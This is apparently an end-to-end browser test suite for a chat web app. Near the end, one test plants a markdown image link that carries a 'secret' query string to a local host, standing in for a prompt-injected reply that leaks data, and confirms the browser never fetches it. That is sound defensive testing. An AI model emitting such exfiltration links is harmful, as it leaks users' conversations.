"""End to end in headless Chromium: stream, stop, switch model, compare, reload, restore, a phone
layout; saves the README screenshot (compare mode)."""

from __future__ import annotations

import os
import shutil
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, expect, sync_playwright

from devtools.processes import ServerProcess
from tests.chat.misbehaving_backend import LONG_TOKENS, PACED_WORDS
from tests.chat.stack import (
    ECHO,
    GEMINI_API,
    GEMINI_PACED,
    GEMMA,
    LONG,
    PACED,
    REPLY,
    ROOT,
    USERS,
    firestore_client,
)
from tests.chat.test_app import messages_of, wait_for

CHROMIUM = "/usr/bin/chromium"
SCREENSHOT = ROOT / "docs" / "chat-screenshot.png"
PHONE_SCREENSHOT = ROOT / "docs" / "chat-phone-screenshot.png"
PERSONA = "You are a pirate who answers briefly."
FIRST = "What is Gemma, and where does this stack run it?"
SECOND = "Summarize that in one sentence."
# Records every length the last reply bubble goes through, to see tokens arrive one by one.
RECORD_STREAM = """
() => {
  window.__replyLengths = [];
  const observer = new MutationObserver(() => {
    const bots = document.querySelectorAll('.message.bot');
    if (bots.length) window.__replyLengths.push(bots[bots.length - 1].innerText.trim().length);
  });
  observer.observe(document.body, {subtree: true, childList: true, characterData: true});
}
"""


@pytest.fixture
def browser(chat_app: ServerProcess) -> Iterator[Browser]:
    if not Path(CHROMIUM).exists():
        pytest.fail(f"{CHROMIUM} is missing: apt-get install -y chromium")
    with sync_playwright() as driver:
        launched = driver.chromium.launch(
            executable_path=CHROMIUM,
            args=["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking"],
        )
        yield launched
        launched.close()


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:
    # Each context is a browser of its own: its own storage, so its own anonymous user.
    context = browser.new_context(viewport={"width": 1360, "height": 860})
    yield context.new_page()
    context.close()


def open_app(page: Page, url: str) -> None:
    page.goto(url)
    # The load event has run once the sidebar says whose conversations these are.
    page.get_by_text("Conversations are kept for this browser.").wait_for(timeout=60_000)


def ask(page: Page, question: str, replies_before: int | None = None, reply: str = REPLY) -> None:
    """Send a question and wait for the whole reply: its text, then its details line."""
    if replies_before is None:
        # Consecutive replies (a kept answer and a folded alternative) share one bubble group.
        replies_before = page.locator(".message.bot").count()
    box = page.get_by_placeholder("Ask anything…")
    box.fill(question)
    box.press("Enter")
    page.wait_for_function(
        "([n, reply]) => { const b = document.querySelectorAll('.message.bot');"
        " if (b.length <= n) return false; const last = b[b.length - 1];"
        " return !!last.querySelector('.reply-details')"
        " && last.innerText.trim().startsWith(reply); }",
        arg=[replies_before, reply],
        timeout=60_000,
    )


def settings(page: Page) -> None:
    """Open the collapsed settings panel."""
    if not page.locator("#temperature").is_visible():
        page.get_by_text("Settings", exact=True).click()
    page.locator("#temperature").wait_for()


DROPDOWNS = {"Model": "#model", "Compare with": "#compare-with"}


def pick(page: Page, name: str, option: str) -> None:
    page.get_by_role("combobox", name=name, exact=True).click()
    page.locator(DROPDOWNS[name]).get_by_role("option", name=option, exact=True).click()
    expect(page.get_by_role("combobox", name=name, exact=True)).to_have_value(option)


def sidebar(page: Page) -> None:
    if not page.locator("#sidebar.open").count():
        page.locator("#sidebar .toggle-button").click()
    page.locator("#sidebar.open").wait_for()


@pytest.mark.browser
def test_chat_in_a_real_browser(
    page: Page, chat_app: ServerProcess, tmp_path_factory: pytest.TempPathFactory
) -> None:
    open_app(page, chat_app.url)
    # That replies stream on screen is checked with a paced backend (the stop and compare
    # tests): the tiny model can finish before a busy machine shows its first update.
    ask(page, FIRST, 0)
    expect(page.get_by_placeholder("Ask anything…")).to_have_value("", timeout=5_000)

    # Switch model mid-conversation: the same conversation continues on the other backend.
    settings(page)
    pick(page, "Model", GEMINI_API)
    ask(page, SECOND, 1)
    assert page.locator(".message.user").count() == 2

    # A reload starts a new page session; the browser keeps its id, so the chat is listed.
    page.reload()
    open_app(page, chat_app.url)
    assert page.locator(".message.bot").count() == 0
    # The address still names the conversation, which reopens: that is the next test. Here
    # the list reopens it after a fresh start.
    page.goto(chat_app.url)
    open_app(page, chat_app.url)
    sidebar(page)
    page.get_by_label(FIRST).check()
    page.wait_for_function("() => document.querySelectorAll('.message.bot').length === 2")
    texts = page.locator(".message").all_inner_texts()
    assert FIRST in texts[0]
    assert SECOND in "".join(texts)
    settings(page)
    assert page.get_by_role("combobox", name="Model", exact=True).input_value() == GEMINI_API


def keep_screenshot(page: Page, tmp: Path, target: Path) -> None:
    shot = tmp / target.name
    page.screenshot(path=str(shot))
    if not target.exists() or os.environ.get("UPDATE_CHAT_SCREENSHOT") == "1":
        shutil.copyfile(shot, target)


def reply_docs(browser_id_prefix: str = "browser:") -> list[dict[str, object]]:
    """The assistant messages of the one conversation saved since the emulator was cleared."""
    client = firestore_client()
    sessions = list(client.collection("chat_sessions").stream())
    assert len(sessions) == 1, [d.id for d in sessions]
    assert str((sessions[0].to_dict() or {}).get("owner", "")).startswith(browser_id_prefix)
    return [m for m in messages_of(sessions[0].id) if m["role"] == "assistant"]


@pytest.mark.browser
def test_the_input_empties_at_once_and_stop_keeps_the_partial_reply(
    page: Page, chat_app: ServerProcess
) -> None:
    open_app(page, chat_app.url)
    page.evaluate(RECORD_STREAM)
    settings(page)
    pick(page, "Model", LONG)
    box = page.get_by_placeholder("Ask anything…")
    box.fill("Talk for a long while.")
    box.press("Enter")
    sent = time.monotonic()
    expect(box).to_have_value("", timeout=30_000)
    emptied_s = time.monotonic() - sent
    assert emptied_s < 1.0, f"the input emptied {emptied_s:.2f} s after sending"

    # A new conversation is listed as soon as it is asked, before its reply ends.
    sidebar(page)
    expect(page.get_by_role("radio", name="Talk for a long while.")).to_be_visible(timeout=30_000)
    page.wait_for_function(
        "() => { const b = document.querySelectorAll('.message.bot');"
        " return b.length && b[b.length - 1].innerText.includes('w20 '); }",
        timeout=60_000,
    )
    lengths = page.evaluate("window.__replyLengths")
    assert len({n for n in lengths if n > 0}) >= 3, f"the reply did not stream: {lengths}"
    stop = page.locator("#message button.stop-button")
    stop.click()
    clicked = time.monotonic()
    page.wait_for_function(
        "() => [...document.querySelectorAll('.message.bot .reply-details')]"
        ".some(d => d.innerText.includes('stopped'))",
        timeout=30_000,
    )
    stopped_s = time.monotonic() - clicked
    assert stopped_s < 1.0, f"the reply ended {stopped_s:.2f} s after Stop"
    shown = page.locator(".message.bot").last.inner_text()
    # The send button is back for the next question.
    expect(page.locator("#message button.stop-button")).to_have_count(0, timeout=10_000)

    saved = wait_for(lambda: (r := reply_docs()) and r[0].get("details") and r)
    reply = saved[0]
    words = str(reply["content"]).split()
    assert words[:3] == ["w0", "w1", "w2"]
    assert 20 <= len(words) < LONG_TOKENS
    assert str(reply["content"]).strip() in shown
    details = reply["details"]
    assert isinstance(details, dict)
    assert details["finish"] == "stopped"
    assert details["backend_id"] == "long"
    assert details["tokens"] == len(words)
    assert "error" not in reply


@pytest.mark.browser
def test_a_permalink_reopens_the_conversation_with_its_settings_for_its_owner_only(
    page: Page, browser: Browser, chat_app: ServerProcess
) -> None:
    open_app(page, chat_app.url)
    settings(page)
    temperature = page.locator("#temperature input[type=number]")
    temperature.fill("0.5")
    temperature.press("Enter")
    page.locator("#persona textarea").fill(PERSONA)
    ask(page, FIRST, 0)
    page.wait_for_url("**/?c=*")
    link = page.url
    session_id = link.partition("?c=")[2]
    assert session_id

    page.reload()
    open_app(page, link)
    page.wait_for_function("() => document.querySelectorAll('.message.bot').length === 1")
    assert FIRST in page.locator(".message.user").first.inner_text()
    settings(page)
    expect(page.locator("#temperature input[type=number]")).to_have_value("0.5")
    expect(page.locator("#persona textarea")).to_have_value(PERSONA)
    # The reply's details: backend, model, first-token time, rate, how it ended.
    details = page.locator(".message.bot .reply-details").first.inner_text()
    assert GEMMA in details
    assert "first token" in details
    assert "complete" in details
    stored = wait_for(lambda: (m := messages_of(session_id)) and len(m) == 2 and m)
    assert stored[0]["system_prompt"] == PERSONA
    assert stored[0]["sampling"]["temperature"] == 0.5

    # Another browser is another user: the same link shows nothing of it.
    stranger = browser.new_context(viewport={"width": 1360, "height": 860}).new_page()
    open_app(stranger, link)
    expect(stranger.get_by_text("That conversation does not exist or is not yours.")).to_be_visible(
        timeout=30_000
    )
    assert stranger.locator(".message").count() == 0
    assert FIRST not in stranger.content()
    assert "?c=" not in stranger.url
    stranger.context.close()


@pytest.mark.browser
def test_compare_mode_streams_two_panes_and_saves_both_answers(
    page: Page, chat_app: ServerProcess, tmp_path: Path
) -> None:
    open_app(page, chat_app.url)
    page.evaluate(RECORD_PANES)
    settings(page)
    # Paced backends, one through each API, so both panes visibly stream on a busy machine.
    pick(page, "Model", PACED)
    pick(page, "Compare with", GEMINI_PACED)
    page.get_by_text("Settings", exact=True).click()
    box = page.get_by_placeholder("Ask anything…")
    box.fill(FIRST)
    box.press("Enter")
    for pane in ("#pane-a", "#pane-b"):
        page.wait_for_function(
            "([pane, reply]) => { const p = document.querySelector(pane);"
            " return p && p.innerText.includes(reply) && p.innerText.includes('complete'); }",
            arg=[pane, PACED_WORDS[-1].strip()],
            timeout=60_000,
        )
    lengths = page.evaluate("window.__paneLengths")
    for pane in ("pane-a", "pane-b"):
        assert len(set(lengths[pane])) >= 3, f"{pane} did not stream: {lengths[pane]}"
    for pane, label in (("#pane-a", PACED), ("#pane-b", GEMINI_PACED)):
        text = page.locator(pane).inner_text()
        assert label in text
        assert "first token" in text
        assert "/s" in text
    keep_screenshot(page, tmp_path, SCREENSHOT)

    page.locator("#compare-row button").nth(1).click()
    expect(page.locator("#compare-row")).to_be_hidden(timeout=30_000)
    saved = wait_for(
        lambda: (r := reply_docs()) and len(r) == 2 and any(m.get("alternative") for m in r) and r
    )
    by_backend = {str(m["backend_id"]): m for m in saved}
    assert set(by_backend) == {"paced", "gemini-paced"}
    # The right pane's answer (Gemini API) is the one continued with; both are kept.
    wait_for(lambda: reply_docs_alternative() == {"paced"})
    assert all(str(m["content"]) == "".join(PACED_WORDS) for m in saved)
    assert saved[0]["seq"] == saved[1]["seq"]
    # With compare off, the next question continues in the one chat, its panes gone.
    settings(page)
    pick(page, "Compare with", "Off")
    pick(page, "Model", GEMMA)
    ask(page, SECOND)
    expect(page.locator("#compare-row")).to_be_hidden()


def reply_docs_alternative() -> set[str]:
    return {str(m["backend_id"]) for m in reply_docs() if m.get("alternative")}


@pytest.mark.browser
def test_a_phone_sized_window_keeps_the_chat_usable(
    browser: Browser, chat_app: ServerProcess, tmp_path: Path
) -> None:
    context = browser.new_context(viewport={"width": 420, "height": 860})
    page = context.new_page()
    try:
        # Loaded first: a message sent before the page has its browser id belongs to that
        # page view alone, and the load's (empty) list then replaces the one it showed.
        open_app(page, chat_app.url)
        # The sidebar starts closed on a phone: nothing covers the chat or the input.
        expect(page.locator("#sidebar.open")).to_have_count(0, timeout=30_000)
        ask(page, FIRST, 0)
        width = 420
        for selector in ("#message textarea", ".message.bot"):
            box = page.locator(selector).last.bounding_box()
            assert box is not None, selector
            assert box["x"] >= 0, (selector, box)
            assert box["x"] + box["width"] <= width, (selector, box)
            assert box["width"] >= 0.6 * width, (selector, box)
        assert page.evaluate("document.documentElement.scrollWidth") <= width
        keep_screenshot(page, tmp_path, PHONE_SCREENSHOT)
        # The sidebar still opens when asked for.
        sidebar(page)
        expect(page.get_by_role("radio", name=FIRST)).to_be_visible()
    finally:
        context.close()


@pytest.mark.browser
def test_regenerate_edit_and_the_trash_icon(page: Page, chat_app: ServerProcess) -> None:
    open_app(page, chat_app.url)
    ask(page, FIRST, 0)
    # Regenerate: a new answer, the first one kept folded as an alternative.
    page.get_by_role("button", name="Retry").last.click()
    expect(page.get_by_text("Other answer, from")).to_be_visible(timeout=60_000)
    page.wait_for_function(
        "() => document.querySelectorAll('.message.bot .reply-details').length >= 2",
        timeout=60_000,
    )
    saved = wait_for(lambda: (r := reply_docs()) and len(r) == 2 and r)
    assert sorted(bool(m.get("alternative")) for m in saved) == [False, True]

    # Edit and resend: the edited question is a new turn; the original stays, marked.
    page.locator(".message.user").first.hover()
    page.get_by_role("button", name="Edit").first.click()
    page.locator(".edit-textarea").fill(SECOND)
    page.get_by_role("button", name="Submit").first.click()
    expect(page.get_by_text("Edited; the earlier version:")).to_be_visible(timeout=60_000)
    page.wait_for_function(
        "(q) => [...document.querySelectorAll('.message.user')].some("
        "m => m.innerText.trim() === q)",
        arg=SECOND,
        timeout=60_000,
    )
    ask_done = "() => document.querySelectorAll('.message.bot .reply-details').length >= 3"
    page.wait_for_function(ask_done, timeout=60_000)
    wait_for(lambda: len(reply_docs()) == 3)

    # The chat's trash icon starts afresh: the old messages do not come back with the next send.
    page.get_by_role("button", name="Clear").first.click()
    expect(page.locator(".message")).to_have_count(0, timeout=30_000)
    ask(page, "A fresh start.", 0)
    assert page.locator(".message.user").count() == 1
    assert all(FIRST not in text for text in page.locator(".message").all_inner_texts())


RECORD_PANES = """
() => {
  window.__paneLengths = {'pane-a': [], 'pane-b': []};
  const observer = new MutationObserver(() => {
    for (const id of ['pane-a', 'pane-b']) {
      const pane = document.getElementById(id);
      if (pane) window.__paneLengths[id].push(pane.innerText.length);
    }
  });
  observer.observe(document.body, {subtree: true, childList: true, characterData: true});
}
"""


class ImageHost:
    """Another origin serving a 1x1 image, counting every request: where a leak would go."""

    def __init__(self) -> None:
        self.requests: list[str] = []
        host = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, format: str, *args: object) -> None:
                return

            def do_GET(self) -> None:
                host.requests.append(self.path)
                gif = bytes.fromhex(
                    "47494638396101000100800000ffffff00000021f90401000000002c00000000010001000002024401003b"
                )
                self.send_response(200)
                self.send_header("Content-Type", "image/gif")
                self.send_header("Content-Length", str(len(gif)))
                self.end_headers()
                self.wfile.write(gif)

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self._server.server_address[1]}"

    def stop(self) -> None:
        self._server.shutdown()
        self._server.server_close()


@pytest.mark.browser
def test_an_external_image_in_a_reply_is_never_requested(
    page: Page, chat_app: ServerProcess
) -> None:
    host = ImageHost()
    try:
        # A prompt-injected reply would hide data in an image URL; the echo model repeats it.
        leak = f"{host.url}/leak.gif?secret=conversation-text"
        # The image host works: a page of its own origin may load it.
        page.goto(leak)
        assert "/leak.gif?secret=conversation-text" in host.requests
        host.requests.clear()

        open_app(page, chat_app.url)
        settings(page)
        pick(page, "Model", ECHO)
        box = page.get_by_placeholder("Ask anything…")
        box.fill(f"Show this: ![status]({leak})")
        box.press("Enter")
        # The reply renders the image element; the browser settles it (blocked) without a fetch.
        page.wait_for_function(
            "(url) => { const imgs = [...document.querySelectorAll('.message.bot img')]"
            ".filter(i => i.getAttribute('src') === url);"
            " return imgs.length > 0 && imgs.every(i => i.complete); }",
            arg=leak,
            timeout=60_000,
        )
        assert page.locator(".message.bot img").count() >= 1
        leaked = [path for path in host.requests if path.startswith("/leak.gif")]
        assert leaked == [], f"the browser fetched {leaked}"
    finally:
        host.stop()


@pytest.mark.browser
def test_login_mode_signs_in_through_its_own_page(
    page: Page, login_chat_app: ServerProcess
) -> None:
    page.goto(login_chat_app.url)
    page.wait_for_url("**/login")
    page.get_by_label("User name").fill("alice")
    page.get_by_label("Password").fill("not her password")
    page.get_by_role("button", name="Sign in").click()
    expect(page.get_by_text("Wrong user name or password.")).to_be_visible(timeout=30_000)
    page.get_by_label("User name").fill("alice")
    page.get_by_label("Password").fill(USERS["alice"])
    page.get_by_role("button", name="Sign in").click()
    page.get_by_text("Signed in as alice").wait_for(timeout=60_000)
    ask(page, FIRST, 0)
    page.get_by_text("Sign out", exact=True).click()
    page.wait_for_url("**/login")
    page.goto(login_chat_app.url)
    page.wait_for_url("**/login")
